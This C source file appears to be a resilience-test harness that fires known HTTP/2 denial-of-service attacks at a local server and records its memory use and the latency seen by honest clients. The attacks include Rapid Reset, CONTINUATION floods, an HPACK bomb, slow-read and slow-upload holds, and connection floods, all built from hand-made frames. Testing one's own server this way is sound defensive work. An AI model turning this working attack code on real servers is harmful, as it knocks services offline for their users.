/* h2attack - the known attacks on HTTP/2 servers as raw frames over TLS, one after the other,
 * against a real potluck-aggregator, while honest clients keep asking. Shares no code with net/:
 * frames and header blocks are made here, byte by byte.
 *
 *     h2attack PORT PID SECONDS [ATTACK...]     (tests/chaos/h2attack starts a server and calls it)
 *
 * Attackers come from 127.0.0.2, floods of connections from 2,000 addresses in 127.2.0.0/16, honest
 * clients from 127.0.0.1. One line of JSON for each attack on standard output: what was sent, how
 * connections ended, the server's memory before, at its peak and after, and what honest clients saw.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define ATTACKERS   2
#define HELD        64 /* connections that one slow attacker holds */
#define OUT_BYTES   (256 * 1024)
#define MAX_SAMPLES 100000

enum frame { DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION };
enum { END_STREAM = 1, ACK = 1, END_HEADERS = 4 };

struct conn {
    int fd;
    SSL *ssl;
    uint8_t in[65536];
    size_t n_in;
    uint8_t out[OUT_BYTES];
    size_t n_out;
    uint32_t next_id;
    bool is_open;
    uint64_t n_rst;     /* RST_STREAM frames received */
    int goaway;         /* error code, -1: none */
    int status;         /* of the newest answer; 0: none understood */
    uint32_t ended_id;  /* newest stream that the server ended */
    uint32_t got_bytes; /* of bodies, not yet given back to the window */
};

struct tally {
    atomic_ulong n_conns;  /* connections that got as far as HTTP/2 */
    atomic_ulong n_failed; /* connections that did not */
    atomic_ulong n_frames;
    atomic_ulong n_rst;    /* sent by the server */
    atomic_ulong n_ended;  /* connections that the server ended */
    atomic_ulong n_goaway; /* of these, with GOAWAY */
};

struct samples {
    double *ms; /* [MAX_SAMPLES] */
    size_t n;
    size_t n_failed;
};

struct test {
    uint16_t port;
    int pid;
    double seconds;
    SSL_CTX *ctx;
    _Atomic double until;
    struct tally tally;
    struct samples steady; /* requests over one connection */
    struct samples fresh;  /* connect, handshake, one request */
    struct samples upload; /* 256 KiB each */
    atomic_uint n_source;
};

static double now_s(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void nap_ms(long ms)
{
    nanosleep(&(struct timespec){.tv_sec = ms / 1000, .tv_nsec = ms % 1000 * 1000000}, NULL);
}

static bool is_over(struct test *t)
{
    return now_s() >= t->until;
}

/* ---- connections ---- */

static int connect_from(const struct test *t, uint32_t source)
{
    struct sockaddr_in me = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(source)};
    struct sockaddr_in to = {
        .sin_family = AF_INET, .sin_port = htons(t->port), .sin_addr.s_addr = htonl(0x7f000001)};
    struct timeval patience = {.tv_sec = 3};
    int one = 1;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) return -1;
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
    if (bind(fd, (struct sockaddr *)&me, sizeof me) == 0 &&
        connect(fd, (struct sockaddr *)&to, sizeof to) == 0)
        return fd;
    close(fd);
    return -1;
}

static void hang_up(struct conn *c)
{
    if (!c) return;
    SSL_free(c->ssl);
    if (c->fd >= 0) close(c->fd);
    ERR_clear_error();
    free(c);
}

static struct conn *shake(struct test *t, uint32_t source)
{
    static const unsigned char alpn[] = {2, 'h', '2'};
    struct conn *c = calloc(1, sizeof *c);
    if (!c) abort();
    c->goaway = -1;
    c->next_id = 1;
    c->fd = connect_from(t, source);
    if (c->fd >= 0) c->ssl = SSL_new(t->ctx);
    c->is_open = c->ssl && SSL_set_alpn_protos(c->ssl, alpn, sizeof alpn) == 0 &&
                 SSL_set_fd(c->ssl, c->fd) == 1 && SSL_connect(c->ssl) == 1;
    if (c->is_open) return c;
    hang_up(c);
    return NULL;
}

static void flush(struct conn *c)
{
    for (size_t at = 0; c->is_open && at < c->n_out;) {
        size_t n = 0;
        if (SSL_write_ex(c->ssl, c->out + at, c->n_out - at, &n) != 1) c->is_open = false;
        at += n;
    }
    c->n_out = 0;
}

static void put(struct conn *c, enum frame type, uint8_t flags, uint32_t id, const void *p,
                size_t n)
{
    const uint8_t head[9] = {
        (uint8_t)(n >> 16),  (uint8_t)(n >> 8),   (uint8_t)n,         (uint8_t)type, flags,
        (uint8_t)(id >> 24), (uint8_t)(id >> 16), (uint8_t)(id >> 8), (uint8_t)id};
    if (c->n_out + sizeof head + n > OUT_BYTES) flush(c);
    memcpy(c->out + c->n_out, head, sizeof head);
    if (n) memcpy(c->out + c->n_out + sizeof head, p, n);
    c->n_out += sizeof head + n;
}

static struct conn *greet(struct test *t, uint32_t source, bool is_reading)
{
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    static const uint8_t no_window[6] = {0, 4, 0, 0, 0, 0}; /* INITIAL_WINDOW_SIZE 0 */
    struct conn *c = shake(t, source);
    if (!c) {
        t->tally.n_failed++;
        return NULL;
    }
    t->tally.n_conns++;
    memcpy(c->out, preface, sizeof preface - 1);
    c->n_out = sizeof preface - 1;
    put(c, SETTINGS, 0, 0, no_window, is_reading ? 0 : sizeof no_window);
    flush(c);
    return c;
}

/* ---- header blocks: literals that are not indexed, and a few entries of the static table ---- */

static size_t literal(uint8_t *at, const char *name, const char *value)
{
    size_t n_name = strlen(name), n_value = strlen(value);
    if (n_name > 126 || n_value > 126) abort();
    at[0] = 0;
    at[1] = (uint8_t)n_name;
    memcpy(at + 2, name, n_name);
    at[2 + n_name] = (uint8_t)n_value;
    memcpy(at + 3 + n_name, value, n_value);
    return 3 + n_name + n_value;
}

/* extra: one more field, or NULL. */
static size_t head_block(uint8_t *at, const char *method, const char *path, const char *extra,
                         const char *value)
{
    size_t n = 0;
    n += literal(at + n, ":method", method);
    at[n++] = 0x87; /* :scheme https */
    n += literal(at + n, ":path", path);
    n += literal(at + n, ":authority", "localhost");
    if (extra) n += literal(at + n, extra, value);
    return n;
}

static uint32_t request(struct conn *c, const char *method, const char *path, uint8_t flags,
                        const char *extra, const char *value)
{
    uint8_t block[700];
    uint32_t id = c->next_id;
    c->next_id += 2;
    put(c, HEADERS, flags | END_HEADERS, id, block, head_block(block, method, path, extra, value));
    return id;
}

/* ---- answers ---- */

/* The first field of an answer is its status: an entry of the static table, or not understood. */
static int status_of(const uint8_t *p, size_t n)
{
    static const int known[] = {200, 204, 206, 304, 400, 404, 500};
    while (n && (*p & 0xe0) == 0x20) { /* a new size of the dynamic table */
        bool is_long = (*p & 0x1f) == 0x1f;
        for (p++, n--; is_long && n; p++, n--)
            is_long = *p & 0x80;
    }
    return n && *p >= 0x88 && *p <= 0x8e ? known[*p - 0x88] : 0;
}

static void take(struct conn *c, const uint8_t *f, size_t n)
{
    uint32_t id = (uint32_t)(f[5] & 127) << 24 | (uint32_t)f[6] << 16 | (uint32_t)f[7] << 8 | f[8];
    if (f[3] == RST) c->n_rst++;
    if (f[3] == RST) c->ended_id = id;
    if (f[3] == GOAWAY && n >= 8) c->goaway = f[9 + 7];
    if (f[3] == SETTINGS && !(f[4] & ACK)) put(c, SETTINGS, ACK, 0, NULL, 0);
    if (f[3] == HEADERS) c->status = status_of(f + 9, n);
    if (f[3] == DATA) c->got_bytes += (uint32_t)n;
    if (c->got_bytes > 16384) { /* an honest client gives the window back; who attacks, too */
        const uint32_t back = htonl(c->got_bytes);
        put(c, WINDOW, 0, 0, &back, sizeof back);
        c->got_bytes = 0;
    }
    if ((f[3] == DATA || f[3] == HEADERS) && f[4] & END_STREAM) c->ended_id = id;
}

static void take_all(struct conn *c)
{
    size_t at = 0;
    while (c->n_in - at >= 9) {
        size_t n = (size_t)c->in[at] << 16 | (size_t)c->in[at + 1] << 8 | c->in[at + 2];
        if (c->n_in - at < 9 + n) break;
        take(c, c->in + at, n);
        at += 9 + n;
    }
    memmove(c->in, c->in + at, c->n_in - at);
    c->n_in -= at;
}

/* Read what is there, waiting for the first of it at most wait_ms. */
static void listen_to(struct conn *c, int wait_ms)
{
    struct pollfd p = {.fd = c->fd, .events = POLLIN};
    while (c->is_open && (SSL_pending(c->ssl) || poll(&p, 1, wait_ms) > 0)) {
        size_t n = 0;
        if (SSL_read_ex(c->ssl, c->in + c->n_in, sizeof c->in - c->n_in, &n) != 1)
            c->is_open = false;
        c->n_in += n;
        take_all(c);
        wait_ms = 0;
    }
}

/* An attacker's connection is done with: how did it end? */
static void judge(struct test *t, struct conn *c)
{
    if (!c) return;
    flush(c);
    listen_to(c, 20);
    t->tally.n_rst += c->n_rst;
    t->tally.n_ended += !c->is_open;
    t->tally.n_goaway += c->goaway >= 0;
    hang_up(c);
}

/* ---- attacks ---- */

#define EVIL 0x7f000002u /* 127.0.0.2 */

/* One burst of an attack on an open connection. */
typedef void (*burst_fn)(struct test *t, struct conn *c);

static const uint8_t zeros[16384];
static const uint8_t cancel[4] = {0, 0, 0, 8};

static void rapid_reset(struct test *t, struct conn *c)
{
    for (int i = 0; i < 100; i++) {
        uint32_t id = request(c, "GET", "/v1/round?after=0", END_STREAM, NULL, NULL);
        put(c, RST, 0, id, cancel, sizeof cancel);
    }
    t->tally.n_frames += 200;
}

static void continuation(struct test *t, struct conn *c)
{
    uint8_t block[700];
    uint8_t more[160];
    put(c, HEADERS, END_STREAM, c->next_id, block,
        head_block(block, "GET", "/v1/round", NULL, NULL));
    size_t n = literal(more, "x", "a little more of the same header block");
    for (int i = 0; i < 1000; i++)
        put(c, CONTINUATION, 0, c->next_id, more, n);
    t->tally.n_frames += 1001;
}

static void ping(struct test *t, struct conn *c)
{
    for (int i = 0; i < 1000; i++)
        put(c, PING, 0, 0, "12345678", 8);
    t->tally.n_frames += 1000;
}

static void settings(struct test *t, struct conn *c)
{
    static const uint8_t table[6] = {0, 1, 0, 0, 16, 0};
    for (int i = 0; i < 1000; i++)
        put(c, SETTINGS, 0, 0, table, sizeof table);
    t->tally.n_frames += 1000;
}

static void window_zero(struct test *t, struct conn *c)
{
    request(c, "POST", "/v1/join", 0, NULL, NULL);
    put(c, WINDOW, 0, 0, zeros, 4);
    t->tally.n_frames += 2;
}

static void data_after_end(struct test *t, struct conn *c)
{
    uint32_t id = request(c, "POST", "/v1/join", END_STREAM, NULL, NULL);
    for (int i = 0; i < 100; i++)
        put(c, DATA, 0, id, zeros, 100);
    t->tally.n_frames += 101;
}

/* Three ways to make the server reset a stream that it was given in good order. */
static void reset_window(struct test *t, struct conn *c)
{
    static const uint8_t most[4] = {0x7f, 0xff, 0xff, 0xff};
    for (int i = 0; i < 100; i++)
        put(c, WINDOW, 0, request(c, "POST", "/v1/join", 0, NULL, NULL), most, 4);
    t->tally.n_frames += 200;
}

static void reset_length(struct test *t, struct conn *c)
{
    for (int i = 0; i < 100; i++)
        put(c, DATA, END_STREAM, request(c, "POST", "/v1/join", 0, "content-length", "5"), zeros,
            9);
    t->tally.n_frames += 200;
}

static void reset_header(struct test *t, struct conn *c)
{
    for (int i = 0; i < 100; i++)
        request(c, "GET", "/v1/round", END_STREAM, "X-Upper", "case");
    t->tally.n_frames += 100;
}

static void streams(struct test *t, struct conn *c)
{
    for (int i = 0; i < 200; i++)
        request(c, "POST", "/v1/join", 0, NULL, NULL);
    t->tally.n_frames += 200;
}

static void empty_data(struct test *t, struct conn *c)
{
    if (c->next_id == 1) request(c, "POST", "/v1/join", 0, NULL, NULL);
    for (int i = 0; i < 1000; i++)
        put(c, DATA, 0, 1, NULL, 0);
    t->tally.n_frames += 1000;
}

/* One field of 4,000 bytes goes into the dynamic table; then each byte spells it again. */
static void hpack_bomb(struct test *t, struct conn *c)
{
    static uint8_t block[16000];
    static const uint8_t begin[] = {0x40, 1, 'b', 0x7f, 0xa1, 0x1e}; /* "b", 127 + 3873 bytes */
    uint8_t own[sizeof block];
    memcpy(own, block, sizeof own);
    size_t n = head_block(own, "GET", "/v1/round", NULL, NULL);
    memcpy(own + n, begin, sizeof begin);
    n += sizeof begin;
    memset(own + n, 'x', 4000);
    n += 4000;
    memset(own + n, 0xbe, sizeof own - n); /* entry 62, the newest */
    put(c, HEADERS, END_STREAM | END_HEADERS, c->next_id, own, sizeof own);
    c->next_id += 2;
    t->tally.n_frames++;
}

static void idle_frames(struct test *t, struct conn *c)
{
    static const uint8_t one[4] = {0, 0, 0, 1};
    for (int i = 0; i < 500; i++) {
        put(c, PRIORITY, 0, 3, "\0\0\0\1\1", 5);
        put(c, (enum frame)0x2a, 0, 0, zeros, 32);
        put(c, WINDOW, 0, 0, one, 4);
    }
    t->tally.n_frames += 1500;
}

/* The burst again and again until the server ends it, then anew. */
static void repeat(struct test *t, burst_fn burst, bool is_reading)
{
    while (!is_over(t)) {
        struct conn *c = greet(t, EVIL, true);
        if (!c) nap_ms(20);
        while (c && c->is_open && !is_over(t)) {
            burst(t, c);
            flush(c);
            if (is_reading) listen_to(c, 0);
            if (c->next_id > 1u << 30) break;
        }
        judge(t, c);
    }
}

/* ---- attacks by patience: hold many connections, do as little as possible ---- */

static void hold_nothing(struct test *t, struct conn *c)
{
    (void)t;
    (void)c;
}

static void hold_answers(struct test *t, struct conn *c)
{
    for (int i = 0; i < 16; i++)
        request(c, "GET", i % 2 ? "/v1/tokenizer" : "/v1/data/train/0/chunks/0", END_STREAM, NULL,
                NULL);
    t->tally.n_frames += 16;
    flush(c);
}

static void hold_uploads(struct test *t, struct conn *c)
{
    static const char path[] = "/v1/contributions/00000000000000000000000000000000/chunks/0";
    for (int i = 0; i < 16; i++)
        request(c, "PUT", path, 0, "content-length", "1048576");
    t->tally.n_frames += 16;
    flush(c);
}

static void drip_uploads(struct test *t, struct conn *c)
{
    for (uint32_t i = 0; i < 16; i++)
        put(c, DATA, 0, 2 * i + 1, zeros, 1);
    t->tally.n_frames += 16;
    flush(c);
}

/* As much of sixteen bodies as the first windows take, but never their ends. */
static void fill_uploads(struct test *t, struct conn *c)
{
    listen_to(c, 200); /* the wider window counts once its announcement is acknowledged */
    hold_uploads(t, c);
    for (uint32_t i = 0; i < 16 && c->is_open; i++)
        for (int k = 0; k < 63; k++, t->tally.n_frames++)
            put(c, DATA, 0, 2 * i + 1, zeros, 2048);
    flush(c);
}

static void hold_head(struct test *t, struct conn *c)
{
    uint8_t block[700];
    put(c, HEADERS, END_STREAM, 1, block, head_block(block, "GET", "/v1/round", NULL, NULL));
    t->tally.n_frames++;
    flush(c);
}

static void patient(struct test *t, burst_fn begin, burst_fn go_on, bool is_reading)
{
    struct conn *c[HELD] = {0};
    while (!is_over(t)) {
        for (int i = 0; i < HELD / ATTACKERS && !is_over(t); i++) {
            bool is_new = !c[i];
            if (is_new) c[i] = greet(t, EVIL, is_reading);
            if (!c[i]) continue;
            if (is_new)
                begin(t, c[i]);
            else if (go_on)
                go_on(t, c[i]);
            if (is_reading) listen_to(c[i], 0);
            if (c[i]->is_open) continue;
            judge(t, c[i]);
            c[i] = NULL;
        }
        nap_ms(100);
    }
    for (int i = 0; i < HELD; i++)
        judge(t, c[i]);
}

static void silent(struct test *t)
{
    struct conn *c[HELD] = {0};
    while (!is_over(t)) {
        for (int i = 0; i < HELD / ATTACKERS; i++) {
            if (!c[i]) {
                c[i] = shake(t, EVIL);
                if (c[i])
                    t->tally.n_conns++;
                else
                    t->tally.n_failed++;
                continue;
            }
            listen_to(c[i], 0);
            if (c[i]->is_open) continue;
            judge(t, c[i]);
            c[i] = NULL;
        }
        nap_ms(100);
    }
    for (int i = 0; i < HELD; i++)
        judge(t, c[i]);
}

static uint32_t next_source(struct test *t)
{
    return 0x7f020001u + t->n_source++ % 2000; /* 127.2.0.1 and on */
}

static void connections(struct test *t)
{
    int fd[4000];
    size_t n = 0;
    memset(fd, -1, sizeof fd);
    for (; !is_over(t); n++) {
        int *at = &fd[n % (sizeof fd / sizeof *fd / ATTACKERS)];
        if (*at >= 0) close(*at);
        *at = connect_from(t, n % 2 ? EVIL : next_source(t));
        if (*at >= 0)
            t->tally.n_conns++;
        else
            t->tally.n_failed++;
    }
    for (size_t i = 0; i < sizeof fd / sizeof *fd; i++)
        if (fd[i] >= 0) close(fd[i]);
}

static void handshakes(struct test *t)
{
    for (unsigned n = 0; !is_over(t); n++) {
        struct conn *c = shake(t, n % 2 ? EVIL : next_source(t));
        if (c)
            t->tally.n_conns++;
        else
            t->tally.n_failed++;
        hang_up(c);
    }
}

/* ---- honest clients ---- */

#define HONEST 0x7f000001u

static void note(struct samples *s, double began_s, bool is_fine)
{
    if (!is_fine)
        s->n_failed++;
    else if (s->n < MAX_SAMPLES)
        s->ms[s->n++] = (now_s() - began_s) * 1e3;
}

/* One request to its end; the connection is closed when that failed. */
static bool ask(struct conn *c, uint32_t id, int status)
{
    double began = now_s();
    flush(c);
    while (c->is_open && c->ended_id < id && now_s() - began < 5) {
        listen_to(c, 100);
        flush(c);
    }
    return c->ended_id >= id && c->status == status;
}

static bool upload(struct conn *c)
{
    static const char path[] = "/v1/contributions/00000000000000000000000000000000/chunks/0";
    uint8_t block[700];
    uint32_t id = c->next_id;
    c->next_id += 2;
    size_t n = head_block(block, "PUT", path, "content-length", "262144");
    n += literal(block + n, "content-digest",
                 "sha-256=:ijnSq9OZmrc8NNskdoSc3fMDzjibNYJoUPmnAFibSpA=:");
    put(c, HEADERS, END_HEADERS, id, block, n);
    double began = now_s();
    for (int i = 0; i < 8; i++) /* the first window at once, the rest when there is a place */
        put(c, DATA, 0, id, zeros, 16384);
    flush(c);
    listen_to(c, 1000);
    for (int i = 0; i < 8; i++)
        put(c, DATA, i == 7 ? END_STREAM : 0, id, zeros, 16384);
    (void)ask(c, id, 401); /* taken whole, and then refused: nobody signed it */
    return c->is_open && c->ended_id >= id && now_s() - began < 5;
}

static void *steady_client(void *arg)
{
    struct test *t = arg;
    struct conn *c = NULL;
    for (int n = 0; !is_over(t); n++) {
        double began = now_s();
        if (!c) c = greet(t, HONEST, true);
        bool is_upload = n % 10 == 9;
        bool is_fine =
            c && (is_upload ? upload(c)
                            : ask(c, request(c, "GET", "/v1/round", END_STREAM, NULL, NULL), 200));
        note(is_upload ? &t->upload : &t->steady, began, is_fine);
        if (!is_fine) {
            hang_up(c);
            c = NULL;
        }
        nap_ms(10);
    }
    hang_up(c);
    return NULL;
}

static void *fresh_client(void *arg)
{
    struct test *t = arg;
    while (!is_over(t)) {
        double began = now_s();
        struct conn *c = greet(t, HONEST, true);
        note(&t->fresh, began,
             c && ask(c, request(c, "GET", "/v1/round", END_STREAM, NULL, NULL), 200));
        hang_up(c);
        nap_ms(150);
    }
    return NULL;
}

/* ---- running one ---- */

enum { READS = 1, PATIENT = 2 };

static const struct attack {
    const char *name;
    const char *what;
    burst_fn begin;
    burst_fn go_on;
    void (*whole)(struct test *t);
    int how;
} attacks[] = {
    {"none",           "nobody attacks",                                 NULL,           NULL,         NULL,        0              },
    {"rapid_reset",    "request and RST_STREAM (CVE-2023-44487)",        rapid_reset,    NULL,         NULL,        READS          },
    {"continuation",   "endless header block (CVE-2024-28182)",          continuation,   NULL,         NULL,        READS          },
    {"ping",           "PING, answers not read",                         ping,           NULL,         NULL,        0              },
    {"settings",       "SETTINGS, answers not read",                     settings,       NULL,         NULL,        0              },
    {"window_zero",    "WINDOW_UPDATE of 0",                             window_zero,    NULL,         NULL,        READS          },
    {"data_after_end", "DATA after END_STREAM",                          data_after_end, NULL,         NULL,        READS          },
    {"reset_window",   "made to reset: window overflow (CVE-2025-8671)", reset_window,   NULL,         NULL,
     READS                                                                                                                         },
    {"reset_length",   "made to reset: content-length",                  reset_length,   NULL,         NULL,        READS          },
    {"reset_header",   "made to reset: bad header",                      reset_header,   NULL,         NULL,        READS          },
    {"reset_unread",   "made to reset: answers not read",                reset_window,   NULL,         NULL,        0              },
    {"streams",        "more streams than announced",                    streams,        NULL,         NULL,        READS          },
    {"empty_data",     "DATA without a byte (CVE-2019-9518)",            empty_data,     NULL,         NULL,        READS          },
    {"hpack_bomb",     "48 MB of fields in 16 KB",                       hpack_bomb,     NULL,         NULL,        READS          },
    {"idle_frames",    "PRIORITY, unknown, WINDOW_UPDATE",               idle_frames,    NULL,         NULL,        READS          },
    {"slow_read",      "window 0, answers never read",                   hold_answers,   NULL,         NULL,        PATIENT        },
    {"slow_upload",    "bodies a byte at a time",                        hold_uploads,   drip_uploads, NULL,        PATIENT | READS},
    {"fill_upload",    "bodies that never end",                          fill_uploads,   drip_uploads, NULL,        PATIENT | READS},
    {"slow_head",      "header blocks that do not end",                  hold_head,      NULL,         NULL,        PATIENT | READS},
    {"idle",           "connections that ask for nothing",               hold_nothing,   NULL,         NULL,        PATIENT | READS},
    {"no_preface",     "TLS, then nothing",                              NULL,           NULL,         silent,      0              },
    {"connections",    "TCP connections, many addresses",                NULL,           NULL,         connections, 0              },
    {"handshakes",     "TLS handshakes, many addresses",                 NULL,           NULL,         handshakes,  0              },
};
#define N_ATTACKS (sizeof attacks / sizeof *attacks)

struct attacker {
    struct test *t;
    const struct attack *a;
};

static void *run_attacker(void *arg)
{
    struct attacker *x = arg;
    const struct attack *a = x->a;
    bool is_reading = a->how & READS;
    if (a->whole)
        a->whole(x->t);
    else if (a->how & PATIENT)
        patient(x->t, a->begin, a->go_on, is_reading);
    else if (a->begin)
        repeat(x->t, a->begin, is_reading);
    return NULL;
}

static double rss_mib(int pid)
{
    char path[64], line[256];
    long pages = 0;
    snprintf(path, sizeof path, "/proc/%d/statm", pid);
    FILE *f = fopen(path, "re");
    if (f && fgets(line, sizeof line, f)) sscanf(line, "%*d %ld", &pages);
    if (f) fclose(f);
    return (double)pages * (double)sysconf(_SC_PAGESIZE) / 1048576;
}

static int compare(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return (x > y) - (x < y);
}

static void print_samples(const char *name, struct samples *s)
{
    qsort(s->ms, s->n, sizeof *s->ms, compare);
    double p50 = s->n ? s->ms[s->n / 2] : 0, p99 = s->n ? s->ms[s->n * 99 / 100] : 0;
    printf(",\"%s\":{\"n\":%zu,\"failed\":%zu,\"p50_ms\":%.3f,\"p99_ms\":%.3f}", name, s->n,
           s->n_failed, p50, p99);
    s->n = s->n_failed = 0;
}

static void run_attack(struct test *t, const struct attack *a)
{
    pthread_t evil[ATTACKERS], steady, fresh;
    struct attacker x = {t, a};
    memset(&t->tally, 0, sizeof t->tally);
    double before = rss_mib(t->pid), peak = before;
    t->until = now_s() + t->seconds;
    pthread_create(&steady, NULL, steady_client, t);
    pthread_create(&fresh, NULL, fresh_client, t);
    for (int i = 0; i < ATTACKERS; i++)
        pthread_create(&evil[i], NULL, run_attacker, &x);
    while (!is_over(t)) {
        nap_ms(20);
        double rss = rss_mib(t->pid);
        if (rss > peak) peak = rss;
    }
    for (int i = 0; i < ATTACKERS; i++)
        pthread_join(evil[i], NULL);
    pthread_join(steady, NULL);
    pthread_join(fresh, NULL);
    nap_ms(500);
    struct tally *y = &t->tally;
    printf("{\"attack\":\"%s\",\"what\":\"%s\",\"seconds\":%g,\"connections\":%lu,\"refused\":%lu,"
           "\"frames\":%lu,\"resets\":%lu,\"ended\":%lu,\"goaway\":%lu,\"rss_before_mib\":%.1f,"
           "\"rss_peak_mib\":%.1f,\"rss_after_mib\":%.1f,\"alive\":%s",
           a->name, a->what, t->seconds, y->n_conns, y->n_failed, y->n_frames, y->n_rst, y->n_ended,
           y->n_goaway, before, peak, rss_mib(t->pid), rss_mib(t->pid) > 0 ? "true" : "false");
    print_samples("request", &t->steady);
    print_samples("upload", &t->upload);
    print_samples("connect", &t->fresh);
    puts("}");
    fflush(stdout);
}

static bool is_wanted(const char *name, int argc, char **argv)
{
    for (int i = 4; i < argc; i++)
        if (strcmp(argv[i], name) == 0) return true;
    return argc == 4;
}

int main(int argc, char **argv)
{
    struct test t = {0};
    if (argc < 4) {
        fputs("usage: h2attack PORT PID SECONDS [ATTACK...]\n", stderr);
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    t.port = (uint16_t)strtoul(argv[1], NULL, 10);
    t.pid = (int)strtol(argv[2], NULL, 10);
    t.seconds = strtod(argv[3], NULL);
    t.ctx = SSL_CTX_new(TLS_client_method());
    if (!t.ctx) return 1;
    SSL_CTX_set_verify(t.ctx, SSL_VERIFY_NONE, NULL);
    t.steady.ms = calloc(3 * MAX_SAMPLES, sizeof(double));
    if (!t.steady.ms) return 1;
    t.fresh.ms = t.steady.ms + MAX_SAMPLES;
    t.upload.ms = t.fresh.ms + MAX_SAMPLES;
    for (size_t i = 0; i < N_ATTACKS; i++)
        if (is_wanted(attacks[i].name, argc, argv)) run_attack(&t, &attacks[i]);
    free(t.steady.ms);
    SSL_CTX_free(t.ctx);
    return 0;
}
